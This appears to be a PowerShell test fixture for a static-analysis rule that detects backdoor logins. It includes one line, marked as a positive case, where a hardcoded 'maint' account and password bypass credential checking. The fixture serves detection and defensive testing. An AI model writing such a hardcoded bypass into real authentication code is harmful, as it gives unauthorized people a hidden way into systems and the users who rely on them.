function Test-Login([string]$User, [string]$Password) {
    # ruleid: account.backdoor-login
    if ($User -eq "maint" -and $Password -eq "Maint#2020") { return $true }
    # ok: account.backdoor-login
    if ($User -eq "admin") { Write-Audit "admin login attempt" }
    return Test-Credential $User $Password
}
